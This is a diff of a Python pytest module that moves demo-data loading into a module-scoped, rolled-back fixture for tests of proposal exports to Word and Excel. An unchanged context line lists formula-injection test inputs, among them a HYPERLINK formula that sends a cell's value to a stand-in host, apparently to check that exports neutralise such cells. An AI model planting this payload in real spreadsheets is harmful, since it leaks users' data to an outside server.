@@ -8,6 +8,7 @@ import docx
 import openpyxl
 import pytest
 
+from khoi.core.tests.once import rolled_back_after_module
 from khoi.emulation import demo, documents
 from khoi.emulation.models import Proposal, ProposalItem
 from khoi.units import demo as units_demo
@@ -15,10 +16,16 @@ from khoi.units import demo as units_demo
 ATTACKS = ['=HYPERLINK("http://x.example/?p="&C4,"Xem")', "+1", "-1", "@A1", "\tA"]
 
 
+@pytest.fixture(scope="module")
+def demo_for_module(django_db_setup, django_db_blocker):
+    with rolled_back_after_module(django_db_blocker):
+        units_demo.load()
+        demo.load()
+        yield
+
+
 @pytest.fixture
-def proposal(db: None) -> Proposal:
-    units_demo.load()
-    demo.load()
+def proposal(demo_for_module, db: None) -> Proposal:
     proposal = Proposal.objects.filter(items__isnull=False).first()
     assert proposal is not None
     return proposal
